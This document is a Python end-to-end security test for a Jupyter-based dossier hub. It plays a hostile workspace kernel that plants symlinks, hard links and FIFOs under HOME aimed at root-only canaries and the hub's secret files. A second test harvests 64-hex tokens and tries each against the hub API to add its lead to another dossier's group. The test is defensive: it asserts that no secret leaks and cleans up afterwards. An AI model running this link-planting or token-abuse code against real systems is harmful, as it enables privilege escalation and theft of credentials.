"""Links planted by a workspace for the privileged steps to follow.

A kernel of the armoede workspace runs as the dossier's identity. It plants, in every folder
under HOME that it can write, symlinks (and, where it can, hard links and FIFOs) under the
names that privileged steps write or read there, pointing at root-only files outside HOME and
at the hub's secrets; a process it leaves behind does the same in every folder that appears
while reports run. Then every privileged step that touches what a workspace can write runs for
real: two report runs through the service API (a fresh kernel, then one kept ready), a member
removal that restarts the workspace, the expiry service, and `dossierhub apply` (rebuilding
the extracts, adding the member back). Nothing
outside the workspace may change, and no secret may end up where the workspace can read it.
"""

from __future__ import annotations

import contextlib
import copy
import hashlib
import json
import os
import secrets
import shutil
import stat
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from e2e_hub import Hub

DOSSIER = "armoede"
OTHER_GROUP = "dossier-mobiliteit"  # the group of a dossier the attacker is no member of
LEAD = "a.jansen"

# names privileged steps write (or might write) in folders a workspace can write
WRITTEN = (
    "output.ipynb",
    "report.ipynb",
    "report.html",
    "kernel.log",
    "kernel.json",
    "checks.json",
    "provenance.json",
    "release.json",
    "WORKSPACE-NOTICE.md",
)

PLANTER = """
import json, os, stat, sys, time

KEEP = {'kernel.json'}  # a connection file next to a live kernel is worth more read than replaced

def link(path, target, log):
    try:
        info = os.lstat(path)
    except FileNotFoundError:
        info = None
    except OSError:
        return
    if info is not None:
        if stat.S_ISDIR(info.st_mode) or os.path.basename(path) in KEEP:
            return
        try:
            os.unlink(path)
        except OSError:
            return
    try:
        os.symlink(target, path)
        log.append(f'symlink {path} -> {target}')
    except OSError:
        pass

def plant(cfg, folder, index, top, fifos, log):
    join, canary = os.path.join, cfg['canary']
    variant = 'exists' if index % 2 == 0 else 'absent'
    for name in cfg['written']:
        link(join(folder, name), join(canary, f'{variant}-{name}'), log)
    link(join(folder, 'published'), cfg['read_dirs'][top % len(cfg['read_dirs'])], log)
    link(join(folder, 'dh-canary.ipynb'), join(canary, 'notebook.ipynb'), log)
    link(join(folder, '.ipynb_checkpoints'), canary, log)
    for target in cfg['secret_files']:
        link(join(folder, 'dh-secret-' + os.path.basename(target) + '.ipynb'), target, log)
    if fifos:
        try:
            os.mkfifo(join(folder, 'dh-fifo.ipynb'))
            log.append(f'fifo {folder}/dh-fifo.ipynb')
        except OSError:
            pass
    try:
        notebooks = [n for n in os.listdir(folder) if n.endswith('.ipynb')]
    except OSError:
        notebooks = []
    for notebook in notebooks:
        link(join(folder, f'.{notebook}.clearing'), join(canary, f'{variant}-clearing'), log)
    for target in [*cfg['secret_files'], *cfg['canary_files']]:
        try:
            os.link(target, join(folder, 'dh-hardlink-' + os.path.basename(target)))
            log.append(f'hard link {folder} -> {target}')
        except OSError:
            pass

def plant_all(cfg, state, fifos):
    own = os.path.realpath(os.getcwd())
    for folder, dirs, files in walk(cfg['home'], cfg['dossier']):
        if folder in state['done'] or os.path.lexists(os.path.join(folder, 'dh-canary.ipynb')):
            continue
        if not os.access(folder, os.W_OK | os.X_OK):
            continue
        state['done'].add(folder)
        # a folder someone else made for this identity (in a folder it cannot write), away
        # from its own: where privileged steps work. The first of them gets the hub's folder
        # read through `published`, the next the key's, then the canaries.
        mine = (os.path.realpath(folder) + '/').startswith(own + '/')
        handed = not mine and not os.access(os.path.dirname(folder), os.W_OK)
        index = state['handed'] if handed else state['count']
        plant(cfg, folder, index, state['handed'], fifos, state['log'])
        state['count'] += 1
        state['handed'] += handed

def watch(cfg):
    # left behind by the kernel: plant in every folder that appears while reports run
    state = {'done': set(), 'count': 0, 'handed': 0, 'log': []}
    end = time.time() + cfg['seconds']
    while time.time() < end:
        plant_all(cfg, state, fifos=False)
        time.sleep(0.01)
"""

SCAN = """
def scan(home, dossier, needles):
    hits = []
    for folder, dirs, files in walk(home, dossier, temp=True):
        for name in files:
            data = read_regular(os.path.join(folder, name))
            if data:
                hits += [[os.path.join(folder, name), label] for label, needle in needles.items()
                         if needle.encode() in data]
    return hits
"""


@dataclass
class Attack:
    canary: Path
    marker: str
    planted: list[str]
    runs: list[dict]
    notes: list[str] = field(default_factory=list)
    canary_changes: list[str] = field(default_factory=list)
    secret_changes: list[str] = field(default_factory=list)
    readable_secrets: list[tuple[str, str]] = field(default_factory=list)


def notebook_with_outputs(text: str) -> str:
    book = new_notebook()
    cell = new_code_cell("db.sql('SELECT bsn FROM residents')")
    cell.execution_count = 1
    cell.outputs = [new_output("stream", name="stdout", text=text)]
    book.cells = [cell]
    return nbformat.writes(book)


def make_canaries(marker: str) -> tuple[Path, list[Path]]:
    """Root-only files outside HOME: a privileged step that follows a planted link hits one."""
    folder = Path(tempfile.mkdtemp(prefix="dh-canary-"))  # 0700 root
    files = []
    for name in [*WRITTEN, "clearing"]:
        path = folder / f"exists-{name}"
        text = f"{marker} {name}\n"
        path.write_text(notebook_with_outputs(text) if name.endswith(".ipynb") else text)
        files.append(path)
    files.append(folder / "notebook.ipynb")  # a root-only notebook with outputs
    files[-1].write_text(notebook_with_outputs(f"{marker} root-only notebook output\n"))
    files.append(folder / "notebook-checkpoint.ipynb")
    files[-1].write_text(notebook_with_outputs(f"{marker} checkpoint\n"))
    for path in files:
        os.chmod(path, 0o600)
    return folder, files


def snapshot(folder: Path) -> dict[str, tuple]:
    state: dict[str, tuple] = {}
    for path in [folder, *folder.rglob("*")]:
        info = path.lstat()
        content = hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else ""
        state[str(path)] = (content, info.st_uid, info.st_gid, stat.filemode(info.st_mode))
    return state


def compare(before: dict[str, tuple], after: dict[str, tuple]) -> list[str]:
    changes = []
    for path in sorted(set(before) | set(after)):
        if path not in after:
            changes.append(f"{path} was removed")
        elif path not in before:
            changes.append(f"{path} was created, {after[path][1:]}")
        elif before[path] != after[path]:
            changes.append(f"{path} changed: {before[path]} -> {after[path]}")
    return changes


def hub_secrets(hub: Hub) -> dict[str, Path]:
    return {
        "master.key": hub.home.master_key_file,
        "service.token": hub.home.service_token_file,
        "proxy.token": hub.home.proxy_token_file,
        "cookie_secret": hub.home.hub_dir / "cookie_secret",
        "passwords.json": hub.home.passwords_file,
    }


def secret_state(hub: Hub) -> dict[str, tuple]:
    state = {}
    for label, path in hub_secrets(hub).items():
        info = path.stat()
        digest = hashlib.sha256(path.read_bytes()).hexdigest()
        state[label] = (digest, stat.filemode(info.st_mode), info.st_nlink, info.st_uid)
    return state


def needles(hub: Hub, marker: str) -> dict[str, str]:
    """What no file a workspace can read may contain."""
    found = {}
    for label, path in hub_secrets(hub).items():
        if label == "passwords.json":
            for person, hashed in json.loads(path.read_text()).items():
                found[f"passwords.json ({person})"] = hashed
        else:
            found[label] = path.read_text().strip()
    found["root-only canary"] = marker
    return found


def remove_planted(hub: Hub, canary: Path, marker: str) -> None:
    """As root: take away every link and FIFO the attack planted under HOME (FIFOs first
    opened, so that a privileged step blocked on one goes on)."""
    targets = (str(canary), str(hub.home.hub_dir), str(hub.home.master_key_file.parent))
    fifos, fds = [], []
    for folder, dirs, files in os.walk(hub.home.root):
        for name in [*files, *dirs]:
            path = Path(folder) / name
            with contextlib.suppress(OSError):
                info = path.lstat()
                if stat.S_ISLNK(info.st_mode) and (
                    os.readlink(path).startswith(targets) or name.endswith(".clearing")
                ):
                    path.unlink()
                elif stat.S_ISFIFO(info.st_mode):
                    fifos.append(path)
                elif name.startswith(("dh-hardlink-", f"dh-probe-{marker}")):
                    shutil.rmtree(path) if path.is_dir() else path.unlink()
    for path in fifos:
        with contextlib.suppress(OSError):
            fds.append(os.open(path, os.O_RDWR | os.O_NONBLOCK))
        with contextlib.suppress(OSError):
            path.unlink()
    time.sleep(0.5)
    for fd in fds:
        os.close(fd)


def workspace_status(hub: Hub, token: str) -> int:
    return httpx.get(
        f"{hub.url}user/dossier-{DOSSIER}/api/status",
        headers={"Authorization": f"token {token}"},
        timeout=30,
    ).status_code


@pytest.fixture(scope="module")
def attacked(hub: Hub, lead_workspace, reports, host) -> Iterator[Attack]:
    workspace = lead_workspace
    workspace.ensure_running()
    marker = f"dh-canary-{secrets.token_hex(6)}"
    canary, canary_files = make_canaries(marker)
    canaries_before = snapshot(canary)
    secrets_before = secret_state(hub)
    config = {
        "home": str(hub.home.root),
        "dossier": DOSSIER,
        "canary": str(canary),
        "canary_files": [str(p) for p in canary_files],
        "written": list(WRITTEN),
        "read_dirs": [str(hub.home.hub_dir), str(hub.home.master_key_file.parent), str(canary)],
        "secret_files": [str(p) for p in hub_secrets(hub).values()],
        "seconds": 240,
    }
    watcher = workspace.attacker_walk + PLANTER + "watch(json.loads(sys.argv[1]))"
    manifest = hub.manifest(DOSSIER)
    directory = hub.home.directory_file
    listing = directory.read_text()
    try:
        planted = json.loads(
            workspace.run(
                workspace.attacker_walk
                + PLANTER
                + f"""
import subprocess
cfg = {config!r}
state = {{'done': set(), 'count': 0, 'handed': 0, 'log': []}}
plant_all(cfg, state, fifos=True)
watcher = {watcher!r}
subprocess.Popen([sys.executable, '-c', watcher, json.dumps(cfg), {marker!r}],
                 start_new_session=True, stdin=subprocess.DEVNULL,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print(json.dumps(state['log']))
"""
            )
        )
        assert planted, "the workspace kernel found no folder under HOME to plant in"
        attack = Attack(canary, marker, planted, runs=[])

        # 1. report runs: a fresh kernel, then (after the first run) one kept ready
        before = host.kernel_processes()
        attack.runs.append(reports.run("district_profile", {"district": "Noord"}))
        host.wait_for_new_kernel(before)
        attack.runs.append(reports.run("district_profile", {"district": "West"}))
        host.kill_marked(marker)

        # 2. a member leaves: apply restarts the workspace and leaves the team a notice (the
        # member comes back with step 4's apply: an apply of its own cost seconds, tested
        # nothing more)
        smaller = copy.deepcopy(manifest)
        analysts = smaller["members"]["analyst"]
        smaller["members"]["analyst"] = [p for p in analysts if p != "c.bakker"]
        hub.write_manifest(DOSSIER, smaller)
        removed = hub.apply()
        if removed.returncode != 0:
            attack.notes.append(f"apply that removes a member failed: {removed.stderr[-500:]}")
        workspace.ensure_running()

        # 3. the expiry service notices the dossier expired: stops it, clears outputs
        probe_output = f"probe-output-{secrets.token_hex(6)}"
        workspace.run(
            "import os\n"
            f"os.mkdir('dh-probe-{marker}')\n"
            f"open('dh-probe-{marker}/probe.ipynb', 'w').write("
            f"{notebook_with_outputs(probe_output)!r})\n"
        )
        probe = workspace.folder / f"dh-probe-{marker}" / "probe.ipynb"
        entries = json.loads(listing)
        for entry in entries:
            if entry["id"] == DOSSIER:
                entry["expires"] = "2020-01-01"
        directory.write_text(json.dumps(entries))
        stopped = host.wait_for(lambda: workspace_status(hub, workspace.token) != 200, 40)
        cleared = stopped and host.wait_for(
            lambda: probe_output not in probe.read_text(errors="replace"), 25
        )
        if not cleared:
            attack.notes.append(
                "the expiry service did not clear the outputs of the workspace's notebooks "
                "within 25 s of stopping it (the workspace planted FIFOs named *.ipynb)"
            )
        directory.write_text(listing)

        # 4. apply: rebuilds the expired extracts, and takes the member back in
        hub.write_manifest(DOSSIER, manifest)
        applied = hub.apply()
        assert applied.returncode == 0, applied.stderr
        workspace.ensure_running()

        # afterwards: what changed outside the workspace, what the workspace can now read
        attack.canary_changes = compare(canaries_before, snapshot(canary))
        secrets_after = secret_state(hub)
        attack.secret_changes = [
            label for label in secrets_before if secrets_before[label] != secrets_after[label]
        ]
        found = workspace.run(
            workspace.attacker_walk
            + SCAN
            + f"import json\nprint(json.dumps(scan({str(hub.home.root)!r}, {DOSSIER!r}, "
            f"{needles(hub, marker)!r})))"
        )
        attack.readable_secrets = [tuple(hit) for hit in json.loads(found)]
        yield attack
    finally:
        host.kill_marked(marker)
        hub.write_manifest(DOSSIER, manifest)
        directory.write_text(listing)
        remove_planted(hub, canary, marker)
        assert hub.apply().returncode == 0
        shutil.rmtree(canary, ignore_errors=True)
        workspace.ensure_running()


def test_planted_links(attacked: Attack) -> None:
    problems = [f"root-only file outside HOME: {c}" for c in attacked.canary_changes]
    problems += [f"hub secret changed: {label}" for label in attacked.secret_changes]
    problems += [
        f"the workspace can read the {label} in {path}" for path, label in attacked.readable_secrets
    ]
    problems += attacked.notes
    runs = [(r["status"], r["error"]) for r in attacked.runs]
    assert not problems, (
        f"a workspace kernel planted {len(attacked.planted)} links and FIFOs under HOME; after "
        f"two report runs {runs}, a member removal, expiry and apply:\n" + "\n".join(problems)
    )


def test_stolen_service_token_chain(attacked: Attack, workspace, hub: Hub) -> None:
    """With any hub token it can read, the workspace adds its lead to another dossier."""
    code = (
        workspace.attacker_walk
        + f"""
import json, re, urllib.error, urllib.request
api = os.environ['JUPYTERHUB_API_URL']
candidates = {{}}
for folder, dirs, files in walk({str(hub.home.root)!r}, {DOSSIER!r}, temp=True):
    for name in files:
        data = read_regular(os.path.join(folder, name), limit=65536)
        for token in re.findall(rb'(?<![0-9a-f])[0-9a-f]{{64}}(?![0-9a-f])', data or b''):
            candidates.setdefault(token.decode(), os.path.join(folder, name))
tried = []
for token, path in list(candidates.items())[:100]:
    request = urllib.request.Request(
        api + '/groups/{OTHER_GROUP}/users', method='POST',
        data=json.dumps({{'users': [{LEAD!r}]}}).encode(),
        headers={{'Authorization': 'token ' + token, 'Content-Type': 'application/json'}})
    try:
        status = urllib.request.urlopen(request, timeout=10).status
    except urllib.error.HTTPError as error:
        status = error.code
    except OSError as error:
        status = str(error)
    tried.append([path, status])
print(json.dumps(tried))
"""
    )
    api = hub.api()
    try:
        tried = json.loads(workspace.run(code))
        members = api.groups().get(OTHER_GROUP, [])
        worked = [(path, status) for path, status in tried if status in (200, 201, 204)]
        assert LEAD not in members and not worked, (
            f"a kernel of the {DOSSIER} workspace read hub API tokens and added {LEAD} to "
            f"{OTHER_GROUP} (now {members}), so its lead can open that dossier's workspace: "
            f"{worked}"
        )
    finally:
        if LEAD in api.groups().get(OTHER_GROUP, []):
            api.remove_from_group(OTHER_GROUP, [LEAD])
        api.close()
